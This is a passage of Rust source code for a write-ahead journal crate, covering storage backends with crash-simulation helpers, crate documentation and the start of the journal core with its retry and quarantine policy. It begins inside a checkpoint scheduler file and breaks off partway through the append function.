        let (flag, signal) = &*self.stop;
        *flag.lock().unwrap_or_else(PoisonError::into_inner) = true;
        signal.notify_all();
        if let Some(handle) = self.handle.take() {
            let _ = handle.join();
        }
    }
}

impl Drop for CheckpointScheduler {
    fn drop(&mut self) {
        self.halt();
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::atomic::{AtomicU64, Ordering};

    #[test]
    fn ticks_repeat_and_stop_is_prompt() {
        let ticks = Arc::new(AtomicU64::new(0));
        let counted = ticks.clone();
        let scheduler = CheckpointScheduler::start(Duration::from_millis(5), move || {
            counted.fetch_add(1, Ordering::SeqCst);
        });
        let deadline = std::time::Instant::now() + Duration::from_secs(5);
        while ticks.load(Ordering::SeqCst) < 3 && std::time::Instant::now() < deadline {
            thread::sleep(Duration::from_millis(2));
        }
        assert!(
            ticks.load(Ordering::SeqCst) >= 3,
            "scheduler must keep ticking"
        );
        let before_stop = std::time::Instant::now();
        scheduler.stop();
        assert!(
            before_stop.elapsed() < Duration::from_secs(1),
            "stop must not wait out a full interval backlog"
        );
        let frozen = ticks.load(Ordering::SeqCst);
        thread::sleep(Duration::from_millis(25));
        assert_eq!(ticks.load(Ordering::SeqCst), frozen, "no ticks after stop");
    }
}
