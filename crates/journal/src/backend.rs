//! Storage backends for journal segments and checkpoint documents.
//!
//! The journal core is backend-agnostic: a [`JournalBackend`] stores
//! opaque segment byte streams (keyed by the global offset of the
//! segment's first record) and checkpoint documents (keyed by the journal
//! offset they cover). [`MemBackend`] is the in-process store used by
//! tests and benches — it can [`fork`](MemBackend::fork) a deep copy of
//! its current bytes, which is how crash tests freeze "the disk at the
//! instant of the kill". [`DirBackend`] maps the same contract onto a
//! directory of files for real durability.
//!
//! Every backend failure is a classified [`BackendError`]: **transient**
//! failures (interrupted syscall, momentary contention) are worth the
//! journal's bounded retry; **permanent** ones (missing file, disk full,
//! corrupt metadata) trip quarantine immediately.

use std::collections::BTreeMap;
use std::fmt;
use std::fs;
use std::io::{self, Write};
use std::path::PathBuf;
use std::sync::{Arc, Mutex, PoisonError};

/// A classified backend failure.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BackendError {
    /// Whether a retry has any chance of succeeding.
    pub transient: bool,
    /// Human-readable detail.
    pub detail: String,
}

impl BackendError {
    /// A retryable failure (interrupted syscall, momentary contention).
    pub fn transient(detail: impl Into<String>) -> BackendError {
        BackendError {
            transient: true,
            detail: detail.into(),
        }
    }

    /// A failure retrying cannot fix (missing file, disk full, corrupt
    /// metadata).
    pub fn permanent(detail: impl Into<String>) -> BackendError {
        BackendError {
            transient: false,
            detail: detail.into(),
        }
    }

    /// Classifies an I/O error: interrupted/would-block/timed-out are
    /// transient, everything else is permanent.
    pub fn from_io(context: &str, e: &io::Error) -> BackendError {
        let transient = matches!(
            e.kind(),
            io::ErrorKind::Interrupted | io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut
        );
        BackendError {
            transient,
            detail: format!("{context}: {e}"),
        }
    }
}

impl fmt::Display for BackendError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let class = if self.transient {
            "transient"
        } else {
            "permanent"
        };
        write!(f, "{} ({class})", self.detail)
    }
}

/// Storage contract for journal data. Errors are classified
/// [`BackendError`]s; the journal retries transients and quarantines on
/// permanents, wrapping what surfaces into `HgError::Journal`.
pub trait JournalBackend: Send + Sync {
    /// Start offsets of all stored segments, ascending.
    fn segments(&self) -> Result<Vec<u64>, BackendError>;
    /// Reads a whole segment.
    fn read_segment(&self, start: u64) -> Result<Vec<u8>, BackendError>;
    /// Appends bytes to a segment, creating it when absent.
    fn append_segment(&self, start: u64, bytes: &[u8]) -> Result<(), BackendError>;
    /// Truncates a segment to `len` bytes (torn-tail repair).
    fn truncate_segment(&self, start: u64, len: u64) -> Result<(), BackendError>;
    /// Deletes a segment (compaction).
    fn remove_segment(&self, start: u64) -> Result<(), BackendError>;
    /// Offsets of all stored checkpoint documents, ascending.
    fn checkpoints(&self) -> Result<Vec<u64>, BackendError>;
    /// Reads a checkpoint document.
    fn read_checkpoint(&self, offset: u64) -> Result<String, BackendError>;
    /// Writes (or overwrites) a checkpoint document.
    fn write_checkpoint(&self, offset: u64, text: &str) -> Result<(), BackendError>;
    /// Deletes a checkpoint document (compaction).
    fn remove_checkpoint(&self, offset: u64) -> Result<(), BackendError>;
    /// Flushes buffered data to stable storage, where the backend has any.
    fn sync(&self) -> Result<(), BackendError> {
        Ok(())
    }
}

#[derive(Default)]
struct MemInner {
    segments: BTreeMap<u64, Vec<u8>>,
    checkpoints: BTreeMap<u64, String>,
}

/// An in-memory backend. Clones share storage (the handle is an `Arc`),
/// so a test can keep a handle while the journal owns the boxed trait
/// object; [`fork`](MemBackend::fork) deep-copies instead.
#[derive(Clone, Default)]
pub struct MemBackend {
    inner: Arc<Mutex<MemInner>>,
}

impl MemBackend {
    /// An empty in-memory backend.
    pub fn new() -> MemBackend {
        MemBackend::default()
    }

    fn lock(&self) -> std::sync::MutexGuard<'_, MemInner> {
        self.inner.lock().unwrap_or_else(PoisonError::into_inner)
    }

    /// A deep copy of the current bytes — an independent "disk image"
    /// frozen at this instant, for simulating a crash.
    pub fn fork(&self) -> MemBackend {
        let inner = self.lock();
        MemBackend {
            inner: Arc::new(Mutex::new(MemInner {
                segments: inner.segments.clone(),
                checkpoints: inner.checkpoints.clone(),
            })),
        }
    }

    /// Crash-test helper: keeps only the first `records` journal records,
    /// discarding later frames at exact frame boundaries, appends
    /// `garbage` raw bytes (a torn half-written frame), and drops every
    /// checkpoint covering an offset beyond the surviving records.
    pub fn truncate_to_records(&self, records: u64, garbage: &[u8]) {
        let mut inner = self.lock();
        let mut remaining = records;
        let mut cut_from: Option<u64> = None;
        let starts: Vec<u64> = inner.segments.keys().copied().collect();
        for start in starts {
            if cut_from.is_some() {
                inner.segments.remove(&start);
                continue;
            }
            let bytes = inner.segments.get(&start).cloned().unwrap_or_default();
            let scan = crate::frame::scan_frames(&bytes);
            if (scan.payloads.len() as u64) <= remaining {
                remaining -= scan.payloads.len() as u64;
                continue;
            }
            // The cut lands inside this segment: re-measure the byte
            // length of the surviving frame prefix.
            let mut keep = 0usize;
            for payload in scan.payloads.iter().take(remaining as usize) {
                keep += crate::frame::FRAME_HEADER + payload.len();
            }
            let seg = inner.segments.get_mut(&start).expect("segment present");
            seg.truncate(keep);
            seg.extend_from_slice(garbage);
            cut_from = Some(start);
        }
        if cut_from.is_none() {
            // Records beyond the last segment: garbage lands on the tail.
            if let Some(seg) = inner.segments.values_mut().next_back() {
                seg.extend_from_slice(garbage);
            }
        }
        inner.checkpoints.retain(|&offset, _| offset <= records);
    }

    /// Total stored segment bytes (bench/diagnostic helper).
    pub fn total_bytes(&self) -> u64 {
        self.lock().segments.values().map(|s| s.len() as u64).sum()
    }
}

impl JournalBackend for MemBackend {
    fn segments(&self) -> Result<Vec<u64>, BackendError> {
        Ok(self.lock().segments.keys().copied().collect())
    }

    fn read_segment(&self, start: u64) -> Result<Vec<u8>, BackendError> {
        self.lock()
            .segments
            .get(&start)
            .cloned()
            .ok_or_else(|| BackendError::permanent(format!("no segment at offset {start}")))
    }

    fn append_segment(&self, start: u64, bytes: &[u8]) -> Result<(), BackendError> {
        self.lock()
            .segments
            .entry(start)
            .or_default()
            .extend_from_slice(bytes);
        Ok(())
    }

    fn truncate_segment(&self, start: u64, len: u64) -> Result<(), BackendError> {
        match self.lock().segments.get_mut(&start) {
            Some(seg) => {
                seg.truncate(len as usize);
                Ok(())
            }
            None => Err(BackendError::permanent(format!(
                "no segment at offset {start}"
            ))),
        }
    }

    fn remove_segment(&self, start: u64) -> Result<(), BackendError> {
        self.lock().segments.remove(&start);
        Ok(())
    }

    fn checkpoints(&self) -> Result<Vec<u64>, BackendError> {
        Ok(self.lock().checkpoints.keys().copied().collect())
    }

    fn read_checkpoint(&self, offset: u64) -> Result<String, BackendError> {
        self.lock()
            .checkpoints
            .get(&offset)
            .cloned()
            .ok_or_else(|| BackendError::permanent(format!("no checkpoint at offset {offset}")))
    }

    fn write_checkpoint(&self, offset: u64, text: &str) -> Result<(), BackendError> {
        self.lock().checkpoints.insert(offset, text.to_string());
        Ok(())
    }

    fn remove_checkpoint(&self, offset: u64) -> Result<(), BackendError> {
        self.lock().checkpoints.remove(&offset);
        Ok(())
    }
}

/// A directory-of-files backend: `seg-<start>.wal` segment files and
/// `ckpt-<offset>.json` checkpoint documents under one directory.
pub struct DirBackend {
    dir: PathBuf,
}

impl DirBackend {
    /// Opens (creating if needed) a journal directory.
    pub fn new(dir: impl Into<PathBuf>) -> io::Result<DirBackend> {
        let dir = dir.into();
        fs::create_dir_all(&dir)?;
        Ok(DirBackend { dir })
    }

    fn seg_path(&self, start: u64) -> PathBuf {
        self.dir.join(format!("seg-{start:020}.wal"))
    }

    fn ckpt_path(&self, offset: u64) -> PathBuf {
        self.dir.join(format!("ckpt-{offset:020}.json"))
    }

    fn listed(&self, prefix: &str, suffix: &str) -> Result<Vec<u64>, BackendError> {
        let mut keys = Vec::new();
        let entries = fs::read_dir(&self.dir).map_err(|e| BackendError::from_io("read_dir", &e))?;
        for entry in entries {
            let entry = entry.map_err(|e| BackendError::from_io("read_dir entry", &e))?;
            let name = entry.file_name();
            let name = name.to_string_lossy();
            if let Some(body) = name
                .strip_prefix(prefix)
                .and_then(|rest| rest.strip_suffix(suffix))
            {
                if let Ok(key) = body.parse::<u64>() {
                    keys.push(key);
                }
            }
        }
        keys.sort_unstable();
        Ok(keys)
    }
}

impl JournalBackend for DirBackend {
    fn segments(&self) -> Result<Vec<u64>, BackendError> {
        self.listed("seg-", ".wal")
    }

    fn read_segment(&self, start: u64) -> Result<Vec<u8>, BackendError> {
        fs::read(self.seg_path(start))
            .map_err(|e| BackendError::from_io(&format!("segment {start}"), &e))
    }

    fn append_segment(&self, start: u64, bytes: &[u8]) -> Result<(), BackendError> {
        let mut file = fs::OpenOptions::new()
            .create(true)
            .append(true)
            .open(self.seg_path(start))
            .map_err(|e| BackendError::from_io(&format!("segment {start}"), &e))?;
        file.write_all(bytes)
            .map_err(|e| BackendError::from_io(&format!("segment {start}"), &e))
    }

    fn truncate_segment(&self, start: u64, len: u64) -> Result<(), BackendError> {
        let file = fs::OpenOptions::new()
            .write(true)
            .open(self.seg_path(start))
            .map_err(|e| BackendError::from_io(&format!("segment {start}"), &e))?;
        file.set_len(len)
            .map_err(|e| BackendError::from_io(&format!("segment {start}"), &e))
    }

    fn remove_segment(&self, start: u64) -> Result<(), BackendError> {
        match fs::remove_file(self.seg_path(start)) {
            Ok(()) => Ok(()),
            Err(e) if e.kind() == io::ErrorKind::NotFound => Ok(()),
            Err(e) => Err(BackendError::from_io(&format!("segment {start}"), &e)),
        }
    }

    fn checkpoints(&self) -> Result<Vec<u64>, BackendError> {
        self.listed("ckpt-", ".json")
    }

    fn read_checkpoint(&self, offset: u64) -> Result<String, BackendError> {
        fs::read_to_string(self.ckpt_path(offset))
            .map_err(|e| BackendError::from_io(&format!("checkpoint {offset}"), &e))
    }

    fn write_checkpoint(&self, offset: u64, text: &str) -> Result<(), BackendError> {
        // Write-then-rename so a crash mid-write never leaves a torn
        // checkpoint under the real name.
        let tmp = self.dir.join(format!("ckpt-{offset:020}.tmp"));
        fs::write(&tmp, text)
            .map_err(|e| BackendError::from_io(&format!("checkpoint {offset}"), &e))?;
        fs::rename(&tmp, self.ckpt_path(offset))
            .map_err(|e| BackendError::from_io(&format!("checkpoint {offset}"), &e))
    }

    fn remove_checkpoint(&self, offset: u64) -> Result<(), BackendError> {
        match fs::remove_file(self.ckpt_path(offset)) {
            Ok(()) => Ok(()),
            Err(e) if e.kind() == io::ErrorKind::NotFound => Ok(()),
            Err(e) => Err(BackendError::from_io(&format!("checkpoint {offset}"), &e)),
        }
    }

    fn sync(&self) -> Result<(), BackendError> {
        for start in self.segments()? {
            let file = fs::File::open(self.seg_path(start))
                .map_err(|e| BackendError::from_io(&format!("segment {start}"), &e))?;
            file.sync_all()
                .map_err(|e| BackendError::from_io(&format!("segment {start}"), &e))?;
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::frame::encode_frame;

    #[test]
    fn backend_errors_classify_io_kinds() {
        let e = BackendError::from_io("op", &io::Error::new(io::ErrorKind::Interrupted, "EINTR"));
        assert!(e.transient);
        let e = BackendError::from_io("op", &io::Error::new(io::ErrorKind::NotFound, "gone"));
        assert!(!e.transient);
        assert!(e.to_string().contains("permanent"));
        assert!(BackendError::transient("t")
            .to_string()
            .contains("transient"));
    }

    #[test]
    fn mem_backend_round_trips_and_forks_independently() {
        let mem = MemBackend::new();
        mem.append_segment(0, b"abc").unwrap();
        mem.append_segment(0, b"def").unwrap();
        mem.write_checkpoint(2, "{}").unwrap();
        assert_eq!(mem.read_segment(0).unwrap(), b"abcdef");
        let fork = mem.fork();
        mem.append_segment(0, b"ghi").unwrap();
        assert_eq!(fork.read_segment(0).unwrap(), b"abcdef");
        assert_eq!(fork.checkpoints().unwrap(), vec![2]);
    }

    #[test]
    fn truncate_to_records_cuts_frames_and_stale_checkpoints() {
        let mem = MemBackend::new();
        // Two segments of two records each.
        for (seg, n0) in [(0u64, 0), (2u64, 2)] {
            for n in n0..n0 + 2 {
                mem.append_segment(seg, &encode_frame(format!("{{\"n\":{n}}}").as_bytes()))
                    .unwrap();
            }
        }
        mem.write_checkpoint(1, "{}").unwrap();
        mem.write_checkpoint(4, "{}").unwrap();
        let cut = mem.fork();
        cut.truncate_to_records(3, b"torn");
        assert_eq!(cut.segments().unwrap(), vec![0, 2]);
        let tail = cut.read_segment(2).unwrap();
        let scan = crate::frame::scan_frames(&tail);
        assert_eq!(scan.payloads.len(), 1);
        assert!(!scan.is_clean(), "garbage tail must read as a tear");
        assert_eq!(cut.checkpoints().unwrap(), vec![1]);
        // Cutting to zero drops everything (first segment emptied, rest gone).
        let zero = mem.fork();
        zero.truncate_to_records(0, b"");
        let total: usize = zero
            .segments()
            .unwrap()
            .iter()
            .map(|&s| zero.read_segment(s).unwrap().len())
            .sum();
        assert_eq!(total, 0);
    }

    #[test]
    fn dir_backend_round_trips_through_files() {
        let dir = std::env::temp_dir().join(format!(
            "hg-journal-test-{}-{:?}",
            std::process::id(),
            std::thread::current().id()
        ));
        let _ = fs::remove_dir_all(&dir);
        let backend = DirBackend::new(&dir).unwrap();
        backend
            .append_segment(0, &encode_frame(b"{\"op\":\"a\"}"))
            .unwrap();
        backend
            .append_segment(0, &encode_frame(b"{\"op\":\"b\"}"))
            .unwrap();
        backend.write_checkpoint(2, "{\"v\":1}").unwrap();
        assert_eq!(backend.segments().unwrap(), vec![0]);
        assert_eq!(backend.checkpoints().unwrap(), vec![2]);
        let scan = crate::frame::scan_frames(&backend.read_segment(0).unwrap());
        assert!(scan.is_clean());
        assert_eq!(scan.payloads.len(), 2);
        // Torn-tail repair via truncate.
        backend.append_segment(0, b"half-written").unwrap();
        let bytes = backend.read_segment(0).unwrap();
        let scan = crate::frame::scan_frames(&bytes);
        assert!(!scan.is_clean());
        backend.truncate_segment(0, scan.clean_len as u64).unwrap();
        assert!(crate::frame::scan_frames(&backend.read_segment(0).unwrap()).is_clean());
        backend.sync().unwrap();
        backend.remove_checkpoint(2).unwrap();
        backend.remove_segment(0).unwrap();
        assert!(backend.segments().unwrap().is_empty());
        let _ = fs::remove_dir_all(&dir);
    }
}
