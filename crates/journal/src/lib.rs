//! # hg-journal — write-ahead lifecycle journal and delta snapshots
//!
//! Before this crate, the fleet's only durability unit was
//! `hg-persist`'s stop-the-world full snapshot: a restart replayed
//! nothing and a crash lost everything since the last full walk. This
//! crate makes restore = **last checkpoint + replay**:
//!
//! * **[`Journal`]** — an append-only journal of fleet lifecycle events
//!   ([`JournalRecord`]: home created/imported/removed, install
//!   confirmed, uninstall, sweeps, policy and config changes, store
//!   ingest/retire). Records are framed with per-record CRC-32 checksums
//!   ([`frame`]); segments rotate by size; opening a journal verifies
//!   every frame and **truncates a torn tail** instead of panicking.
//! * **[`Checkpoint`]** — full or delta images of the fleet's ground
//!   truth as of a journal offset, built on the same snapshot codecs the
//!   fleet snapshot uses. [`materialize`] folds a chain of them into one
//!   complete image; [`Journal::compact`] folds the chain *and* deletes
//!   the segments it covers.
//! * **[`JournalBackend`]** — pluggable storage: [`MemBackend`] (tests,
//!   benches, crash forks) and [`DirBackend`] (a directory of
//!   `seg-*.wal` / `ckpt-*.json` files).
//! * **[`CheckpointScheduler`]** — a background thread driving periodic
//!   checkpoints.
//! * **[`FaultPlan`] / [`FaultBackend`]** — deterministic, seeded I/O
//!   fault injection for chaos tests, driving the journal's failure
//!   policy: classified [`BackendError`]s, bounded retry with tail
//!   repair, quarantine under a configurable [`DegradedPolicy`], and
//!   [`Journal::heal`] (a fresh full checkpoint re-arms a recovered
//!   backend).
//!
//! The fleet-side wiring (journaled mutation paths, `Fleet::recover`)
//! lives in `hg-service`; this crate knows nothing about live homes —
//! only their exported ground truth.
//!
//! ## Consistency
//!
//! The journal's checkpoint gate makes every checkpoint a consistent
//! cut, and records are state deltas (not re-run commands), so:
//! *materialized checkpoint chain + replay of records `>= offset`* is
//! bit-identical to the live fleet — the property
//! `tests/journal_fuzz.rs` proves by truncating at every record
//! boundary.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod backend;
pub mod checkpoint;
pub mod fault;
pub mod frame;
#[allow(clippy::module_inception)]
pub mod journal;
pub mod record;
pub mod scheduler;

pub use backend::{BackendError, DirBackend, JournalBackend, MemBackend};
pub use checkpoint::{materialize, Checkpoint, MaterializedFleet};
pub use fault::{FaultBackend, FaultKind, FaultPlan};
pub use journal::{
    Admission, CheckpointStats, CompactStats, DegradedPolicy, Journal, JournalConfig, JournalState,
};
pub use record::{journal_err, JournalRecord};
pub use scheduler::CheckpointScheduler;
