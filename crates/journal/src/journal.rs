//! The journal core: ordered durable appends, delta-checkpoint
//! bookkeeping, compaction, torn-tail recovery and the I/O failure
//! policy.
//!
//! ## Consistency model
//!
//! A [`Journal`] owns a **checkpoint gate** (`RwLock<()>`). Journaled
//! fleet mutations hold the gate *shared* across their
//! apply-then-append window; a checkpoint holds it *exclusively* while it
//! exports the dirty set. That makes a checkpoint a consistent cut: no
//! operation can be applied-but-not-yet-journaled while the export runs.
//! The gate is only ever taken in **leaf** operations (never nested), so
//! shared acquisitions cannot deadlock against a queued writer.
//!
//! ## Offsets
//!
//! Every record has a global offset: the count of records appended before
//! it. A segment is named by the offset of its first record, so segment
//! record counts need no side index — `next segment start − this start`.
//! Checkpoints cover a prefix `[0, offset)`; replay resumes at `offset`.
//!
//! ## Failure policy
//!
//! Backend failures are classified ([`BackendError`]): **transient**
//! errors get a bounded retry with deterministic backoff — after first
//! cutting the tail segment back to its last known-good length, so a
//! retried frame never lands after the garbage of a partial write. On
//! retry exhaustion or a permanent error the journal **quarantines**: it
//! records the last offset it can vouch for, refuses further appends,
//! and publishes `journal_degraded`. What mutations do next is the
//! fleet's [`DegradedPolicy`] decision ([`Journal::admit`]): refuse
//! writes outright, or keep serving them unjournaled. [`Journal::heal`]
//! re-arms a quarantined journal by repairing the tail and cutting a
//! fresh **full** checkpoint onto the recovered backend, so replay never
//! crosses the quarantine gap.

use hg_telemetry::{TelemetryBus, TelemetryEvent};
use homeguard_core::HgError;
use std::collections::BTreeSet;
use std::sync::{
    Arc, Mutex, MutexGuard, OnceLock, PoisonError, RwLock, RwLockReadGuard, RwLockWriteGuard,
};
use std::time::{Duration, Instant};

use crate::backend::{BackendError, JournalBackend};
use crate::checkpoint::{materialize, Checkpoint, MaterializedFleet};
use crate::frame::{encode_frame, scan_frames};
use crate::record::{journal_err, JournalRecord};

/// What journaled mutations do while the journal is quarantined.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum DegradedPolicy {
    /// Journaled mutations are refused with `HgError::Degraded` before
    /// any state changes; reads keep serving. Nothing can diverge from
    /// the WAL — the safe default.
    #[default]
    RefuseWrites,
    /// Mutations keep serving without journaling (availability over
    /// durability). Recovery rolls back to the quarantine offset until
    /// [`Journal::heal`] cuts a fresh checkpoint over the live state.
    ServeUnjournaled,
}

/// Health of a [`Journal`], as reported by [`Journal::state`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum JournalState {
    /// Appends are being accepted and made durable.
    Active,
    /// I/O retries were exhausted (or a permanent error hit); appends
    /// are refused until [`Journal::heal`].
    Quarantined {
        /// The last offset the journal can still vouch for.
        durable_offset: u64,
        /// What tripped the quarantine.
        reason: String,
    },
}

/// [`Journal::admit`]'s verdict for one journaled mutation.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Admission {
    /// Journal healthy: apply the mutation and append its records.
    Journaled,
    /// Quarantined under [`DegradedPolicy::ServeUnjournaled`]: apply the
    /// mutation, skip the appends (the skip is counted).
    Unjournaled,
}

/// Tuning for a [`Journal`].
#[derive(Debug, Clone)]
pub struct JournalConfig {
    /// Rotate to a fresh segment once the active one exceeds this many
    /// bytes. Rotation happens between records — a record never spans
    /// segments.
    pub max_segment_bytes: u64,
    /// Total attempts per backend write (first try + retries) before a
    /// transient failure is treated as fatal. Must be ≥ 1.
    pub max_io_attempts: u32,
    /// Base retry backoff in microseconds; attempt *n* sleeps
    /// `backoff_micros << (n−1)` — deterministic, no jitter.
    pub backoff_micros: u64,
    /// What mutations do while quarantined (see [`Journal::admit`]).
    pub degraded: DegradedPolicy,
}

impl Default for JournalConfig {
    fn default() -> JournalConfig {
        JournalConfig {
            max_segment_bytes: 4 * 1024 * 1024,
            max_io_attempts: 3,
            backoff_micros: 50,
            degraded: DegradedPolicy::default(),
        }
    }
}

#[derive(Default)]
struct JournalInner {
    /// Global offset of the next record to append.
    next_offset: u64,
    /// Start offset of the active (tail) segment.
    tail_start: u64,
    /// Byte length of the active segment.
    tail_bytes: u64,
    /// Offsets of stored checkpoints, ascending.
    checkpoints: Vec<u64>,
    /// Homes dirtied since the last checkpoint.
    dirty: BTreeSet<u64>,
    /// Homes removed since the last checkpoint.
    removed: BTreeSet<u64>,
    /// Whether the store changed since the last checkpoint.
    store_dirty: bool,
    /// `Some((durable offset, reason))` once retries were exhausted.
    quarantined: Option<(u64, String)>,
    /// `next_offset` as of the last successful sync.
    synced_offset: u64,
    /// Session counters (not persisted).
    appends: u64,
    append_bytes: u64,
    append_failures: u64,
    truncated_on_open: u64,
    io_retries: u64,
    refused: u64,
    unjournaled: u64,
    heals: u64,
}

/// Summary returned by [`Journal::checkpoint_write`].
#[derive(Debug, Clone, Copy)]
pub struct CheckpointStats {
    /// Journal offset the checkpoint covers.
    pub offset: u64,
    /// Homes exported into the document.
    pub homes: u64,
    /// Whether it was a full image.
    pub full: bool,
    /// Wall-clock write time in microseconds.
    pub micros: u64,
}

/// Summary returned by [`Journal::compact`].
#[derive(Debug, Clone, Copy)]
pub struct CompactStats {
    /// Checkpoint documents folded away.
    pub checkpoints_folded: u64,
    /// Segments deleted.
    pub segments_dropped: u64,
    /// The single surviving checkpoint's offset.
    pub offset: u64,
}

fn berr(e: BackendError) -> HgError {
    journal_err(e.to_string())
}

/// An append-only write-ahead journal of fleet lifecycle events.
pub struct Journal {
    backend: Box<dyn JournalBackend>,
    gate: RwLock<()>,
    inner: Mutex<JournalInner>,
    telemetry: OnceLock<Arc<TelemetryBus>>,
    config: JournalConfig,
}

impl Journal {
    /// Opens a journal over a backend with default tuning. See
    /// [`open_with`](Journal::open_with).
    pub fn open(backend: Box<dyn JournalBackend>) -> Result<Journal, HgError> {
        Journal::open_with(backend, JournalConfig::default())
    }

    /// Opens a journal, scanning and verifying every stored segment.
    ///
    /// A torn tail (half-written frame from a crash) is **truncated away**,
    /// never a panic: the journal resumes at the last fully-checksummed
    /// record. Any segments beyond a tear, and any checkpoints covering
    /// offsets beyond the surviving records, are discarded. The dirty-home
    /// bookkeeping is re-seeded by decoding the records after the newest
    /// surviving checkpoint, so delta checkpoints stay correct across a
    /// reopen with no write to the backend.
    ///
    /// # Errors
    ///
    /// [`HgError::Journal`] when the backend fails or a surviving
    /// checkpoint/record no longer decodes.
    pub fn open_with(
        backend: Box<dyn JournalBackend>,
        config: JournalConfig,
    ) -> Result<Journal, HgError> {
        let mut inner = JournalInner::default();
        let starts = backend.segments().map_err(berr)?;
        let mut torn = false;
        for &start in &starts {
            if torn {
                // Data beyond a tear is unreachable for ordered replay.
                backend.remove_segment(start).map_err(berr)?;
                continue;
            }
            if start < inner.next_offset {
                return Err(journal_err(format!(
                    "segment at offset {start} overlaps its predecessor (which ends at {})",
                    inner.next_offset
                )));
            }
            // `start > next_offset` is a forward gap: the records between
            // were compacted away under a checkpoint.
            let bytes = backend.read_segment(start).map_err(berr)?;
            let scan = scan_frames(&bytes);
            if !scan.is_clean() {
                inner.truncated_on_open += (bytes.len() - scan.clean_len) as u64;
                backend
                    .truncate_segment(start, scan.clean_len as u64)
                    .map_err(berr)?;
                torn = true;
            }
            inner.tail_start = start;
            inner.tail_bytes = scan.clean_len as u64;
            inner.next_offset = start + scan.payloads.len() as u64;
        }
        inner.checkpoints = backend.checkpoints().map_err(berr)?;
        inner.checkpoints.sort_unstable();
        if let Some(&last) = inner.checkpoints.last() {
            if last > inner.next_offset {
                // A checkpoint is atomic and self-contained, so it is
                // trusted even when the records it folded are gone
                // (compaction deleted them). Appends resume past it —
                // offsets are never reused.
                inner.next_offset = last;
                inner.tail_start = last;
                inner.tail_bytes = 0;
            }
        }
        inner.synced_offset = inner.next_offset;
        let journal = Journal {
            backend,
            gate: RwLock::new(()),
            inner: Mutex::new(inner),
            telemetry: OnceLock::new(),
            config,
        };
        // Re-seed dirty bookkeeping from the un-checkpointed tail.
        let replay_from = journal.last_checkpoint_offset().unwrap_or(0);
        let tail = journal.records_from(replay_from)?;
        {
            let mut inner = journal.lock();
            for (_, record) in &tail {
                note_dirty(&mut inner, record);
            }
        }
        Ok(journal)
    }

    fn lock(&self) -> MutexGuard<'_, JournalInner> {
        self.inner.lock().unwrap_or_else(PoisonError::into_inner)
    }

    /// Wires a telemetry bus (set-once). Returns `false` when a bus was
    /// already attached.
    pub fn set_telemetry(&self, bus: Arc<TelemetryBus>) -> bool {
        self.telemetry.set(bus).is_ok()
    }

    fn publish(&self, event: TelemetryEvent) {
        if let Some(bus) = self.telemetry.get() {
            bus.publish(event);
        }
    }

    /// Takes the checkpoint gate **shared** — held by a journaled
    /// mutation across its apply-then-append window. Leaf operations
    /// only: never acquire while already holding it.
    pub fn gate(&self) -> RwLockReadGuard<'_, ()> {
        self.gate.read().unwrap_or_else(PoisonError::into_inner)
    }

    /// Takes the checkpoint gate **exclusively** — held by a checkpoint
    /// while it exports the dirty set.
    pub fn gate_exclusive(&self) -> RwLockWriteGuard<'_, ()> {
        self.gate.write().unwrap_or_else(PoisonError::into_inner)
    }

    /// The current health of the journal.
    pub fn state(&self) -> JournalState {
        match &self.lock().quarantined {
            None => JournalState::Active,
            Some((durable_offset, reason)) => JournalState::Quarantined {
                durable_offset: *durable_offset,
                reason: reason.clone(),
            },
        }
    }

    /// Whether the journal has quarantined itself after an I/O failure.
    pub fn is_quarantined(&self) -> bool {
        self.lock().quarantined.is_some()
    }

    /// The configured degraded-mode policy.
    pub fn degraded_policy(&self) -> DegradedPolicy {
        self.config.degraded
    }

    /// Admission check for one journaled mutation, called by the fleet
    /// **before** applying state. Healthy journals admit everything;
    /// quarantined ones decide by [`DegradedPolicy`].
    ///
    /// # Errors
    ///
    /// `HgError::Degraded` when quarantined under
    /// [`DegradedPolicy::RefuseWrites`] — the mutation must not be
    /// applied.
    pub fn admit(&self) -> Result<Admission, HgError> {
        let mut inner = self.lock();
        match &inner.quarantined {
            None => Ok(Admission::Journaled),
            Some((durable, reason)) => match self.config.degraded {
                DegradedPolicy::ServeUnjournaled => {
                    inner.unjournaled += 1;
                    Ok(Admission::Unjournaled)
                }
                DegradedPolicy::RefuseWrites => {
                    let e = HgError::Degraded(format!(
                        "journal quarantined at durable offset {durable} ({reason}); writes refused"
                    ));
                    inner.refused += 1;
                    Err(e)
                }
            },
        }
    }

    /// Deterministic backoff before retry attempt `attempt` (1-based).
    fn backoff(&self, attempt: u32) {
        let micros = self.config.backoff_micros << (attempt - 1).min(16);
        if micros > 0 {
            std::thread::sleep(Duration::from_micros(micros));
        }
    }

    /// Cuts the tail segment back to its last known-good length, so a
    /// retried append never lands after the garbage of a partial write.
    /// A tail segment that was never created (its first append failed
    /// outright) needs no repair.
    fn repair_tail(&self, tail_start: u64, tail_bytes: u64) -> Result<(), BackendError> {
        let starts = self.backend.segments()?;
        if !starts.contains(&tail_start) {
            return Ok(());
        }
        self.backend.truncate_segment(tail_start, tail_bytes)
    }

    /// Appends one record durably, returning its global offset.
    ///
    /// Transient backend failures are retried up to
    /// `max_io_attempts` times (tail repaired between attempts, backoff
    /// deterministic). On exhaustion or a permanent failure the journal
    /// **quarantines** at the record's offset and every later append
    /// fails fast until [`heal`](Journal::heal).
    ///
    /// # Errors
    ///
    /// [`HgError::Journal`] when the write could not be made durable.
    /// The caller's in-memory mutation has already been applied at that
    /// point; the error reports that durability lapsed, not that state
    /// is bad.
    pub fn append(&self, record: &JournalRecord) -> Result<u64, HgError> {
        let frame = encode_frame(&record.to_payload());
        let mut inner = self.lock();
        if let Some((durable, reason)) = &inner.quarantined {
            let msg = format!("journal quarantined at durable offset {durable}: {reason}");
            inner.refused += 1;
            return Err(journal_err(msg));
        }
        if inner.tail_bytes > 0
            && inner.tail_bytes + frame.len() as u64 > self.config.max_segment_bytes
        {
            inner.tail_start = inner.next_offset;
            inner.tail_bytes = 0;
        }
        let offset = inner.next_offset;
        let mut retries = 0u32;
        let failure = loop {
